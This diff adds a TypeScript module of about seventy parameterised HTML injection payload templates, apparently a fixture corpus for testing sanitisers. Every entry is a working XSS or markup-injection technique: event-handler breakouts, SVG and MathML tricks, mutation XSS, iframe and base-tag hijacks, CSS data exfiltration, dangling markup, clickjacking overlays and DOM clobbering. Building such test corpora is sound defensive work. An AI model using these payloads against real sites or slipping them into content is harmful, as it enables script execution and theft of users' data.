@@ -1,0 +1,81 @@
+import { payloads } from "./payload.ts";
+
+/** Elements that run a script, change what the page is, or send what it holds elsewhere. */
+export const markup = payloads("markup", {
+  "script-tag": ({ run }) => `<script>${run}</script>`,
+  "script-in-mixed-case": ({ run }) => `<ScRiPt>${run}</sCrIpT >`,
+  "script-from-elsewhere": ({ url }) => `<script src=${url}></script>`,
+  "script-from-data": ({ run }) => `<script src="data:text/javascript,${run}"></script>`,
+  "script-module": ({ run }) => `<script type="module">${run}</script>`,
+  "script-that-ends-one": ({ run }) => `</script><script>${run}</script>`,
+  "import-map": ({ url }) =>
+    `<script type="importmap">{"imports":{"/assets/app.js":"${url}"}}</script>`,
+  "image-that-fails": ({ run }) => `<img src=x onerror=${run}>`,
+  "image-without-spaces": ({ run }) => `<img/src="x"/onerror=${run}>`,
+  "handler-in-upper-case": ({ run }) => `<IMG SRC=x ONERROR="${run}">`,
+  "handler-in-entities": () => "<img src=x onerror=\"&#95;&#95;xss('handler-in-entities')\">",
+  "handler-after-newlines": ({ run }) => `<img\nsrc=x\n\tonerror\n=\n"${run}"\n>`,
+  "double-quote-break": ({ run }) => `"><img src=x onerror=${run}>`,
+  "single-quote-break": ({ run }) => `'><img src=x onerror=${run}>`,
+  "attribute-break": ({ run }) => `" autofocus tabindex=1 onfocus="${run}" x="`,
+  "textarea-break": ({ run }) => `</textarea><img src=x onerror=${run}>`,
+  "title-break": ({ run }) => `</title><img src=x onerror=${run}>`,
+  "style-break": ({ run }) => `</style><img src=x onerror=${run}>`,
+  "comment-break": ({ run }) => `<!--><img src=x onerror=${run}>-->`,
+  "comment-with-bang": ({ run }) => `<!--x--!><img src=x onerror=${run}>`,
+  "comment-that-hides": ({ run }) => `<!-- hidden --><img src=x onerror=${run}><!--`,
+  cdata: ({ run }) => `<![CDATA[><img src=x onerror=${run}>]]>`,
+  "processing-instruction": ({ run }) => `<?xml version="1.0"?><img src=x onerror=${run}>`,
+  "unclosed-tag": ({ run }) => `<img src=x onerror=${run} x`,
+  "dangling-attribute": ({ url }) => `<img src='${url}?`,
+  "svg-load": ({ run }) => `<svg onload=${run}>`,
+  "svg-script": ({ run }) => `<svg><script>${run}</script></svg>`,
+  "svg-animation": ({ run }) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  "svg-set-link": ({ run }) =>
+    `<svg><a><set attributeName=href to="javascript:${run}" /><text y=20>x</text></a></svg>`,
+  "svg-use-data": () => `<svg><use href="data:image/svg+xml,<svg id='x'/>#x"></use></svg>`,
+  "svg-foreign-object": ({ run }) =>
+    `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
+  "math-link": ({ run }) => `<math href="javascript:${run}">x</math>`,
+  "mutation-by-style": ({ run }) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
+  "mutation-by-noscript": ({ run }) =>
+    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  "mutation-by-template": ({ run }) =>
+    `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
+  "details-toggle": ({ run }) => `<details open ontoggle=${run}>x</details>`,
+  "video-source": ({ run }) => `<video><source onerror=${run} src=x></video>`,
+  "audio-that-fails": ({ run }) => `<audio src=x onerror=${run}></audio>`,
+  "body-load": ({ run }) => `<body onload=${run}>`,
+  "input-focus": ({ run }) => `<input autofocus onfocus=${run}>`,
+  "custom-element": ({ run }) => `<x-y tabindex=1 onfocus=${run} autofocus>x</x-y>`,
+  "animation-start": ({ run }) =>
+    `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=${run}>x</b>`,
+  "marquee-start": ({ run }) => `<marquee onstart=${run}>x</marquee>`,
+  "popover-toggle": ({ run }) =>
+    `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${run}>x</p>`,
+  "iframe-script": ({ run }) => `<iframe src="javascript:parent.${run}"></iframe>`,
+  "iframe-document": ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
+  "iframe-from-elsewhere": ({ url }) => `<iframe src="${url}"></iframe>`,
+  object: ({ url }) => `<object data="${url}"></object>`,
+  embed: ({ url }) => `<embed src="${url}">`,
+  "meta-refresh": ({ url }) => `<meta http-equiv="refresh" content="9;url=${url}">`,
+  "base-address": ({ url }) => `<base href="${url}/">`,
+  "form-to-elsewhere": ({ url }) => `<form action="${url}"><button>Continue</button></form>`,
+  "button-with-action": ({ run }) =>
+    `<form><button formaction="javascript:${run}">x</button></form>`,
+  "stylesheet-link": ({ url }) => `<link rel="stylesheet" href="${url}">`,
+  preconnect: ({ url }) => `<link rel="preconnect" href="${url}">`,
+  prefetch: ({ url }) => `<link rel="prefetch" href="${url}">`,
+  "style-import": ({ url }) => `<style>@import url(${url});</style>`,
+  "style-exfiltration": ({ url }) => `<style>[value^="a"]{background:url(${url})}</style>`,
+  "style-attribute": ({ url }) => `<p style="background:url(${url})">x</p>`,
+  "style-overlay": () =>
+    `<a href="/" style="position:fixed;inset:0;z-index:2147483647">Approve</a>`,
+  "clobbered-function": () => "<form id=getElementById><input name=attributes></form>",
+  "clobbered-document": () => "<img name=currentScript><a id=__xss_config href=/x></a>",
+  "decoded-twice": ({ run }) => `&lt;img src=x onerror=${run}&gt;`,
+  "full-width-tag": ({ run }) => `＜img src=x onerror=${run}＞`,
+  "html-in-markdown": ({ run }) => `**bold** <b onclick=${run}>x</b>\n\n- <i>item</i>`,
+  "html-in-a-heading": ({ run }) => `# <img src=x onerror=${run}>\n\ntext`,
+});
